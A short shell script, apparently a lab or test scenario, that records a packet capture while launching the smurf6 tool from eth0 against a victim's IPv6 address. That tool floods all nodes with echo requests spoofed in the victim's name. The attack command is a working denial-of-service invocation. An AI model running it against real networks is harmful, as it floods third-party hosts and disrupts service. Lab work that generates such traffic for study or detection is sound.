# echo requests to all nodes in the name of a victim
. "$here/scenarios/attack.inc"
attack_ground attack-smurf6.pcap 300
attack smurf6 -i 100000 eth0 "$h6_address"
lab_wait
